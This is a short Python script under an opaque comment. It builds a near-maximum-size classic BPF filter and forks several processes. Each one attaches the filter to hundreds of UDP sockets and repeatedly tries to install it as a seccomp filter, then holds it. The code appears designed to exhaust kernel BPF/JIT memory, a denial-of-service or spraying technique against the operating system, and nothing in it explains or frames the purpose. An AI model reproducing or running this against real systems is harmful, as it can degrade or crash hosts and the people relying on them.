# Programs for the kernel, one for each socket: compiled, and kept beside it as they were.
import ctypes
import os
import socket
import struct
import time
steps = b"".join([struct.pack("HBBI", 0x34, 0, 0, 3)] * 4090) + struct.pack("HBBI", 0x06, 0, 0, 0xFFFF)
text = ctypes.create_string_buffer(steps)
program = struct.pack("HL", 4091, ctypes.addressof(text))
keep = []
for _ in range(2):
    if os.fork() == 0:
        break
for name in (26, 51):  # SO_ATTACH_FILTER, SO_ATTACH_REUSEPORT_CBPF
    try:
        for _ in range(100):
            keep.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
            keep[-1].setsockopt(socket.SOL_SOCKET, name, program)
    except OSError:
        pass
libc = ctypes.CDLL(None)
for _ in range(40):
    libc.prctl(38, 1, 0, 0, 0)
    libc.prctl(22, 2, program, 0, 0)
print("held", flush=True)
time.sleep(2.5)
